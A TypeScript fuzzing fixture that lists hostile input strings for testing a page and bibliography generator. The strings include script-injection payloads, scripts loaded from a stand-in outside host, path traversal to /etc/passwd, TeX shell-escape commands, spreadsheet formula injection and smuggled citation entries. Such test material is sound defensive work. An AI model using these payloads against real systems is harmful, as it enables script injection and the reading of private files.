/** A text that tries to break what reads, prints or opens it. */
export interface Payload {
  name: string;
  text: string;
  /** True for half a surrogate pair, which no file of UTF-8 can hold: only the escapes of JSON can. */
  needsEscapes?: true;
}

/** What runs in a browser, if anything of a payload does: a test looks for the mark on the window. */
const mark = 'window.pwned=1';

/** Every hostile text, once: `npm run fuzz` puts them into files, `npm run hostile` into a site. */
export const payloads: readonly Payload[] = [
  ...named('a script', [
    `<script>${mark}</script>`,
    `</script><script>${mark}</script>`,
    `</style></title></textarea><script>${mark}</script>`,
    `<!--<script>${mark}</script>-->`,
    `]]><script>${mark}</script><![CDATA[`,
    `<scr<script>ipt>${mark}</script>`,
    `&lt;script&gt;${mark}&lt;/script&gt;`,
  ]),
  ...named('an element', [
    `<img src=x onerror="${mark}">`,
    `"><svg onload=${mark}>`,
    '<iframe src="https://outside.example/"></iframe><base href="https://outside.example/">',
    '<form action="https://outside.example/"><button>x</button></form><meta http-equiv="refresh" content="0">',
    `<math><a xlink:href="javascript:${mark}">x</a></math><object data="https://outside.example/"></object>`,
    '<link rel="stylesheet" href="https://outside.example/a.css"><style>*{display:none}</style>',
    `<details open ontoggle=${mark}><b><i><u>`,
    '<template><slot></template><textarea><noscript><plaintext>',
    '<jats:title>x</jats:title><sub><sup><sub>',
  ]),
  ...named('an attribute', [
    `" onmouseover="${mark}" x="`,
    `' onfocus='${mark}' autofocus x='`,
    `\` onclick=${mark} x=`,
    'x" style="position:fixed;inset:0" class="',
  ]),
  // What the programs that make pages and hub files look for.
  ...named('a mark of our own', [
    '" component-url="https://outside.example/a.js" renderer-url="https://outside.example/a.js" x="',
    '<astro-island client="load" component-url="https://outside.example/a.js"></astro-island>',
    '<div data-scripts="index" data-worker="https://outside.example/a.js" data-files="https://outside.example/">',
    `<script type="text/plain" data-part="map.json">x</script><script>${mark}</script>`,
    '</ol><div id="search-results"><pre id="licences">',
    `<!doctype html><head></head><body></body><meta http-equiv="content-security-policy" content="x">`,
    'https://outside.example/in-one-file/about/#search absent:x /in-one-file/hubs/x/#main',
    `import("https://outside.example/a.js"); importPart("x"); /* $& $1 $\` $' */`,
  ]),
  ...named('an address', [
    `javascript:${mark}`,
    `JaVaScRiPt:${mark}//https://example.org/`,
    `\u0001javascript:${mark}`,
    `data:text/html,<script>${mark}</script>`,
    `vbscript:${mark}`,
    'https://outside.example/"><script>',
    '//outside.example/a',
    'https://example.org/%00%0d%0aSet-Cookie:a=b',
    'https://example.org/%E2%80%AEfdp.exe?a=%3Cscript%3E#%22',
    'https://user:password@example.org:99999/\\..\\..',
    'file:///etc/passwd',
    '../../../../etc/passwd',
  ]),
  ...named('a formula', [
    '=1+1',
    '=HYPERLINK("https://outside.example/";"x")',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    "'=1",
    '＝1',
  ]),
  ...named('TeX', [
    '\\input{/etc/passwd}',
    '\\write18{id}',
    `$\\href{javascript:${mark}}{x}$`,
    '$\\htmlStyle{color:red}{x}$ $\\includegraphics{https://outside.example/a.png}$',
    '$\\def\\a{\\a\\a}\\a$',
    '$\\frac{1}{$ {{{ }}} } {',
    '\\\\ \\{ \\} \\% % comment',
    '$5 and $6, \\$7 and $$',
    '\\begin{document}\\end{document}',
  ]),
  ...named('an entry', [
    'x\n@misc{other, title = {Another}}\n',
    'x},\n title = {Another},\n',
    'x\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - Another\r\n',
    'x\nTI  - Another',
    'x","Another"\n"y',
    'x\u2028ER  - \u2029TY  - JOUR',
    '"},{"title":"Another"',
    '- A Paper\nA summary.',
    '\\n\\r\\t\\u0000\\x00',
  ]),
  ...named('a bidirectional override', [
    'a\u202Egpj.exe\u202Cb',
    '\u2066a\u2067b\u2068c\u2069',
    '\u200F\u200E\u061C',
    'دوغما \u202D1',
  ]),
  ...named('a control character', [
    'a\0b',
    '\u0007\u001B[31mred\u001B[0m\u001B]0;title\u0007',
    'a\u0085b\u009Fc',
    '\uFEFFa\uFFFEb\uFFFFc',
    'a\u000Bb\u000Cc',
  ]),
  ...named('half a character', ['a\uD800b', '\uDC00', 'a\uDBFF']).map((half) => ({
    ...half,
    needsEscapes: true as const,
  })),
  ...named('percent-encoding', [
    '%00',
    '%E2%80%AE',
    '%0d%0aER  - ',
    '%ED%A0%80',
    '%',
    '%zz',
    '10.1000/%3Cscript%3E%00',
  ]),
  ...named('markup', [
    '&',
    '&amp;amp;',
    '&#0;',
    '&#xD800;',
    '&#x202E;',
    '&unknown;',
    '&lt;b&gt;',
    '<!ENTITY a "b">&a;',
    '<?xml version="1.0"?>',
  ]),
  ...named('a template', [
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for those who read it as a template.
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '__proto__',
    'constructor',
    'toString',
    '[object Object]',
    'null',
    'undefined',
    'NaN',
  ]),
  ...named('Markdown', [
    '[x](javascript:window.pwned=1)',
    '![x](https://outside.example/a.png)',
    '# x',
    '1. **x**',
    '`` ` ``',
    '<https://outside.example/>',
    '| a | b |',
  ]),
  ...named('nothing', [
    '\u200B\u3164',
    '\u00AD',
    '\u2800',
    '  ',
    'n/a',
    '\u0301',
    'e\u0301\u0301\u0301'.repeat(20),
  ]),
  ...named('a word', [
    'longword'.repeat(400),
    '字'.repeat(2000),
    '👩‍🔬'.repeat(300),
    'ß'.repeat(300),
    'İ'.repeat(300),
  ]),
  ...named('a date', [
    '0000-00-00',
    '9999-99-99',
    '2024-02-30',
    '-0001-01-01',
    '1e9',
    '2024-01-01T00:00:00Z/..',
    '٢٠٢٤',
    'Infinity',
  ]),
  ...named('an identifier', [
    '10.1000/',
    '10.1000/a}b\\c',
    '10.1000/<>"\'&',
    'arXiv:9999.99999v99',
    '2401.00001\n2401.00002',
    'W0',
    'CorpusId:-1',
    '0'.repeat(40),
  ]),
  ...named('a name', [
    'others',
    'and others',
    'Doe, Jane and Roe, Rik',
    'Doe; Roe',
    ', , ,',
    'van der, ',
    '{Group, of} and {x',
    'family=Doe, given=x',
  ]),
];

/** The payloads that a file of text can hold. */
export const plainPayloads = payloads.filter(({ needsEscapes }) => !needsEscapes);

function named(kind: string, texts: string[]): Payload[] {
  return texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text }));
}
